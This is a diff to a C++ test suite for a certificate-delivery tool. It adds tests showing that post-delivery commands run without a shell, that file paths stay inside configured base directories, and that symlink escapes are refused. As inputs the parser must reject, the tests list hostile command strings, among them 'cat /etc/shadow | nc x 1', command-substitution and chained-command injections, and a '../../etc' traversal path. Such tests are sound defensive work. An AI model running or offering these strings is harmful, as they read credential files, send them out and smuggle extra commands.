@@ -101,6 +101,8 @@ class file_delivery : public ::testing::Test {
   boost::asio::thread_pool pool{2};
   cert_bundle a = make_bundle(dir.path() / "certs", "a");
   cert_bundle b = make_bundle(dir.path() / "certs", "b");
+  // The file_target_base_dirs a delivery is held to ("/sys": the root-only unwritable case).
+  std::vector<std::string> bases{dir.path().string(), "/sys"};
 
   ~file_delivery() override { pool.join(); }
 
@@ -114,12 +116,12 @@ class file_delivery : public ::testing::Test {
     return t;
   }
   delivery_result deliver(const file_target& t, const cert_bundle& bundle, const std::string& run) {
-    auto r = testbed::run_sync(deliver_file(t, bundle, run, pool));
+    auto r = testbed::run_sync(deliver_file(t, bundle, run, bases, pool));
     std::cerr << "  -> " << delivery_status_name(r.status) << " [" << error_class_name(r.cls) << "] " << r.error << "\n";
     return r;
   }
   delivery_result rollback(const file_target& t, const std::string& run) {
-    auto r = testbed::run_sync(rollback_file(t, run, pool));
+    auto r = testbed::run_sync(rollback_file(t, run, bases, pool));
     std::cerr << "  <- " << delivery_status_name(r.status) << " [" << error_class_name(r.cls) << "] " << r.error << "\n";
     return r;
   }
@@ -235,7 +237,8 @@ TEST_F(file_delivery, missing_directory_is_io_permanent) {
 TEST_F(file_delivery, post_command_runs_with_paths_in_its_environment) {
   auto t = target();
   auto out = dir.file("post.out");
-  t.post_command = "echo \"$CERTFLEET_CERT_PATH $CERTFLEET_RUN_ID\" > " + out + "; cat \"$CERTFLEET_CERT_PATH\" >/dev/null";
+  // No shell unless asked for by name: here one is, to expand the variables.
+  t.post_command = "/bin/sh -c 'echo \"$CERTFLEET_CERT_PATH $CERTFLEET_RUN_ID\" > " + out + "; cat \"$CERTFLEET_CERT_PATH\" >/dev/null'";
   auto r = deliver(t, a, "run-1");
   ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
   EXPECT_EQ(slurp(out), t.cert_path + " run-1\n");
@@ -244,7 +247,7 @@ TEST_F(file_delivery, post_command_runs_with_paths_in_its_environment) {
 TEST_F(file_delivery, post_command_failure_is_io_transient_and_restores) {
   auto t = target();
   ASSERT_TRUE(deliver(t, a, "run-1").ok());
-  t.post_command = "echo reload failed >&2; exit 1";
+  t.post_command = "/bin/sh -c 'echo reload failed >&2; exit 1'";
   auto r = deliver(t, b, "run-2");
   EXPECT_EQ(r.status, delivery_status::failed);
   EXPECT_EQ(r.cls, error_class::io_transient);
@@ -257,7 +260,7 @@ TEST_F(file_delivery, post_command_failure_is_io_transient_and_restores) {
 
 TEST_F(file_delivery, post_command_timeout_kills_it) {
   auto t = target();
-  t.post_command = "sleep 30";
+  t.post_command = "sleep 30";  // a bare name: found in the fixed PATH
   t.post_command_timeout = milliseconds(300);
   auto started = std::chrono::steady_clock::now();
   auto r = deliver(t, a, "run-1");
@@ -294,4 +297,128 @@ TEST_F(file_delivery, replaces_atomically) {
   ASSERT_TRUE(deliver(t, b, "run-2").ok());
   EXPECT_EQ(slurp(link), a.key_pem);
   EXPECT_EQ(slurp(t.key_path), b.key_pem);
+}
+
+// The post command is executed directly: shell syntax inside quotes reaches the program as
+// plain bytes, and outside quotes it is refused when the target is parsed.
+TEST_F(file_delivery, post_command_runs_without_a_shell) {
+  auto t = target();
+  const std::string d = fs::path(t.cert_path).parent_path().string();
+  // With /bin/sh -c, "$(echo c)" would become "c"; `'a;touch b'` is one literal name either way.
+  t.post_command = "/usr/bin/touch '" + d + "/a;touch b' \"" + d + "/$(echo c)\" " + d + "/plain\\ name";
+  ASSERT_TRUE(check_file_target(t)) << check_file_target(t).error().message;
+  auto r = deliver(t, a, "run-1");
+  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
+  EXPECT_TRUE(fs::exists(d + "/a;touch b"));
+  EXPECT_TRUE(fs::exists(d + "/$(echo c)"));
+  EXPECT_TRUE(fs::exists(d + "/plain name"));
+  EXPECT_FALSE(fs::exists(d + "/c"));
+  EXPECT_FALSE(fs::exists(d + "/a"));
+
+  auto words = split_post_command(R"(/bin/echo 'x y' "q\"uote" back\ slash)");
+  ASSERT_TRUE(words) << words.error().message;
+  EXPECT_EQ(*words, (std::vector<std::string>{"/bin/echo", "x y", "q\"uote", "back slash"}));
+  for (const char* cmd : {"systemctl reload nginx; id", "nginx -t && systemctl reload nginx", "cat /etc/shadow | nc x 1",
+                          "echo $(id)", "echo `id`", "echo > /tmp/x", "echo $HOME", "echo 'open", "./relative.sh",
+                          "echo a\nid"}) {
+    auto parsed = parse_file_target(boost::json::value{{"cert_path", "/a/c"}, {"key_path", "/a/k"}, {"post_command", cmd}});
+    ASSERT_FALSE(parsed) << cmd;
+    EXPECT_EQ(parsed.error().field, "file.post_command") << cmd;
+  }
+}
+
+TEST_F(file_delivery, a_missing_program_is_a_validation_failure) {
+  auto t = target();
+  t.post_command = "certfleet-no-such-program --reload";
+  auto r = deliver(t, a, "run-1");
+  EXPECT_EQ(r.status, delivery_status::failed);
+  EXPECT_EQ(r.cls, error_class::validation);
+  EXPECT_NE(r.error.find("not in PATH"), std::string::npos) << r.error;
+}
+
+// A result is readable by the whole project: a chatty failing command leaves only a bounded tail.
+TEST_F(file_delivery, post_command_output_in_the_result_is_bounded) {
+  auto t = target();
+  t.post_command = "/bin/sh -c 'head -c 100000 /dev/zero | tr \"\\0\" x; echo END; exit 3'";
+  auto r = deliver(t, a, "run-1");
+  ASSERT_EQ(r.status, delivery_status::failed);
+  EXPECT_NE(r.error.find("END"), std::string::npos) << r.error.substr(0, 200);
+  // Two messages (the failure, then the same command after the restore), each with at most
+  // 512 bytes of output, instead of 100 kB.
+  EXPECT_LT(r.error.size(), 1400u);
+  EXPECT_LE(r.remote_stderr.size(), 2000u);
+}
+
+// Paths must lie under file_target_base_dirs: checked again at delivery, so a target stored
+// before the setting changed is refused, and nothing is written.
+TEST_F(file_delivery, paths_outside_the_base_dirs_are_refused_at_delivery) {
+  auto t = target();
+  bases = {(dir.path() / "elsewhere").string()};
+  fs::create_directories(bases[0]);
+  auto r = deliver(t, a, "run-1");
+  EXPECT_EQ(r.status, delivery_status::failed);
+  EXPECT_EQ(r.cls, error_class::validation);
+  EXPECT_NE(r.error.find("file.cert_path"), std::string::npos) << r.error;
+  EXPECT_FALSE(fs::exists(t.cert_path));
+  EXPECT_EQ(rollback(t, "run-1").cls, error_class::validation);
+  bases.clear();  // the setting emptied: every file target refused
+  r = deliver(t, a, "run-1");
+  EXPECT_EQ(r.cls, error_class::validation);
+  EXPECT_NE(r.error.find("file_target_base_dirs"), std::string::npos) << r.error;
+  EXPECT_FALSE(fs::exists(t.cert_path));
+
+  // Lexically: a sibling with the same prefix is not "under", and ".." never gets past the parser.
+  file_target sib;
+  sib.cert_path = dir.path().string() + "-sibling/c.pem";
+  sib.key_path = dir.path().string() + "/k.pem";
+  auto e = check_file_target_paths(sib, {dir.path().string()});
+  ASSERT_FALSE(e);
+  EXPECT_EQ(e.error().field, "file.cert_path");
+  sib.cert_path = dir.path().string() + "/x/../../etc/c.pem";
+  e = check_file_target_paths(sib, {dir.path().string()});
+  ASSERT_FALSE(e);
+  EXPECT_EQ(e.error().field, "file.cert_path");
+}
+
+// A directory under a base dir that is a symbolic link to somewhere else: resolved at delivery
+// and refused; the link's destination is untouched. A destination that is a link is refused too.
+TEST_F(file_delivery, symbolic_link_escapes_are_refused_at_delivery) {
+  auto outside = dir.path() / "outside";
+  fs::create_directories(outside);
+  auto base = dir.path() / "base";
+  fs::create_directories(base);
+  bases = {base.string()};
+  fs::create_directory_symlink(outside, base / "link");
+  file_target t;
+  t.cert_path = (base / "link" / "cert.pem").string();
+  t.key_path = (base / "link" / "key.pem").string();
+  ASSERT_TRUE(check_file_target_paths(t, bases));  // lexically fine: only resolution shows it
+  auto r = deliver(t, a, "run-1");
+  EXPECT_EQ(r.status, delivery_status::failed);
+  EXPECT_EQ(r.cls, error_class::validation);
+  EXPECT_NE(r.error.find("outside file_target_base_dirs"), std::string::npos) << r.error;
+  EXPECT_TRUE(fs::is_empty(outside));
+
+  // The final component a link to a file outside: refused, the outside file keeps its bytes.
+  fs::create_directories(base / "real");
+  spit(outside / "victim", "precious");
+  fs::create_symlink(outside / "victim", base / "real" / "cert.pem");
+  file_target t2;
+  t2.cert_path = (base / "real" / "cert.pem").string();
+  t2.key_path = (base / "real" / "key.pem").string();
+  r = deliver(t2, a, "run-1");
+  EXPECT_EQ(r.cls, error_class::validation);
+  EXPECT_NE(r.error.find("symbolic link"), std::string::npos) << r.error;
+  EXPECT_EQ(slurp(outside / "victim"), "precious");
+  EXPECT_FALSE(fs::exists(base / "real" / "key.pem"));
+
+  // A link inside the base dirs to another place inside them is fine (resolved and re-checked).
+  fs::create_directories(base / "target-dir");
+  fs::create_directory_symlink(base / "target-dir", base / "alias");
+  file_target t3;
+  t3.cert_path = (base / "alias" / "cert.pem").string();
+  t3.key_path = (base / "alias" / "key.pem").string();
+  r = deliver(t3, a, "run-1");
+  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
+  EXPECT_EQ(slurp(base / "target-dir" / "cert.pem"), a.cert_pem);
 }
